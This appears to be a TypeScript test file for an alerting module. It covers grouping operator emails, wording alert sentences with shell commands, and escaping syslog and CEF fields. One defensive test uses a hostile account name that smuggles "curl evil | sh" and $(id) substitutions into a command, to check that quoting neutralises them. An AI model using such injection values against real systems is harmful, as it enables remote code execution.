import { type AccountId, instantOf } from '@palier/mfa-core';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { type Alert, alarmAlert } from './alert.ts';
import { capAlert } from './cap-alert.ts';
import { createGrouping } from './grouping.ts';
import { cefText, plainText } from './syslog.ts';

const start = Date.UTC(2026, 2, 10, 3, 12);
const minute = 60_000;

function alertOf(account: string, at = Date.now(), name = 'alarm.canary'): Alert {
  const sentence = { fr: `Compte ${account}.`, en: `Account ${account}.` };
  return { name, at: instantOf(at), account, severity: 'page', sentence };
}

describe('mail to the operator', () => {
  const sent: string[] = [];
  const grouping = createGrouping({ send: ({ sentence }) => void sent.push(sentence.en) });
  beforeEach(() => {
    vi.useFakeTimers({ now: start });
  });
  afterEach(() => {
    grouping.flush();
    vi.useRealTimers();
    sent.length = 0;
  });

  it('says the first alert of an account and kind at once, and the next 186 with one count an hour later', () => {
    grouping.put(alertOf('a'));
    expect(sent).toEqual(['Account a.']);
    for (let minutes = 0; minutes < 186; minutes += 1) {
      vi.advanceTimersByTime(10_000);
      grouping.put(alertOf('a'));
    }
    expect(sent).toHaveLength(1);
    vi.advanceTimersByTime(30 * minute);
    expect(sent).toEqual([
      'Account a.',
      'Account a. (And 186 more since 2026-03-10 03:12 UTC; this is the last one.)',
    ]);
    // Two silent hours later it is a first one again.
    vi.advanceTimersByTime(120 * minute);
    grouping.put(alertOf('a'));
    expect(sent).toHaveLength(3);
  });

  it('never lets one account or one kind wait for another', () => {
    grouping.put(alertOf('a'));
    grouping.put(alertOf('b'));
    grouping.put(alertOf('a', start, 'glass.broken'));
    expect(sent).toEqual(['Account a.', 'Account b.', 'Account a.']);
  });

  it('is one an hour for an attack that goes on, with the whole count', () => {
    for (let minutes = 0; minutes < 24 * 60; minutes += 1) {
      grouping.put(alertOf('a'));
      vi.advanceTimersByTime(minute);
    }
    expect(sent.length).toBeLessThanOrEqual(26);
    const counted = sent.map((text) => Number(/\(And (\d+) more/.exec(text)?.[1] ?? 1));
    grouping.flush();
    expect(counted.reduce((sum, one) => sum + one, 0)).toBeGreaterThan(23 * 60);
  });

  it('names a thousand accounts in some twenty mails at once and one an hour later', () => {
    for (let account = 0; account < 1000; account += 1) grouping.put(alertOf(`a${account}`));
    expect(sent).toHaveLength(21);
    vi.advanceTimersByTime(60 * minute);
    expect(sent).toHaveLength(22);
    expect(sent.at(-1)).toMatch(
      /^979 more accounts, 979 more alerts "alarm\.canary" since 2026-03-10 03:12 UTC: a21 \(1\), /,
    );
    expect(sent.at(-1)).toContain('+ 929. The list: palier alarm list.');
  });

  it('says what was only counted before it ends', () => {
    for (let times = 0; times < 3; times += 1) grouping.put(alertOf('a'));
    grouping.flush();
    expect(sent.at(-1)).toContain('And 2 more');
    vi.advanceTimersByTime(120 * minute);
    expect(sent).toHaveLength(2);
  });
});

describe('a sentence of an alert', () => {
  const canary = (account: string): Alert =>
    alarmAlert({
      kind: 'canary',
      account: account as AccountId,
      raisedAt: instantOf(start),
      until: instantOf(start + 12 * 60 * minute),
      sentence: { fr: 'Une fiche piégée.', en: 'A planted record.' },
    });

  it('says what happened to whom, what is shown at most from now on, and the commands', () => {
    expect(canary('pharmacie-01').sentence.en).toBe(
      'Account pharmacie-01: A planted record. Until 2026-03-10 15:12 UTC it is shown nobody more without a key or a card. Call its owner. To stop the account: palier account lock pharmacie-01. Who was seen: palier exposure report --key ledger-private.jwk --account pharmacie-01',
    );
  });

  it('holds commands that run nothing else when they are pasted, whatever the account is called', () => {
    const hostile = "x'; curl evil | sh; echo $(id) `id`";
    for (const language of ['fr', 'en'] as const) {
      const text = canary(hostile).sentence[language];
      expect(text).toContain(`palier account lock 'x'\\''; curl evil | sh; echo $(id) \`id\`'`);
    }
    expect(canary('Élodie.Garçon@sante').sentence.en).toContain('lock Élodie.Garçon@sante. ');
    expect(canary('--all').sentence.en).toContain("lock '--all'");
  });

  it('of a cap that honest work may have outgrown says which, of which class, and where to read on', () => {
    const reached = {
      account: 'medecin-01' as AccountId,
      class: 'gp',
      cap: 'new-records',
      most: 120,
      at: instantOf(start),
    } as const;
    const { sentence, severity } = capAlert(reached);
    expect(severity).toBe('note');
    expect(sentence.en).toMatch(/^Account medecin-01 \(gp\): 120 persons never seen before in 30 days, /);
    expect(sentence.fr).toContain('docs/observe-first.md, point 4');
  });

  it('stays in its field of syslog and CEF, commands and all', () => {
    const alert = canary('a=b|c]"d\\');
    expect(plainText(alert)).toContain('account="a=b|c\\]\\"d\\\\"] \ufeffAccount a=b|c]"d\\: ');
    const cef = cefText(alert);
    expect(cef).toContain('suser=a\\=b|c]"d\\\\ msg=Account a\\=b|c]"d\\\\: ');
    // Every = of the extension that is not one of its three keys' is escaped.
    const extension = cef.split('|8|')[1] ?? '';
    expect(extension.match(/(?<!\\)=/g)).toHaveLength(3);
  });
});
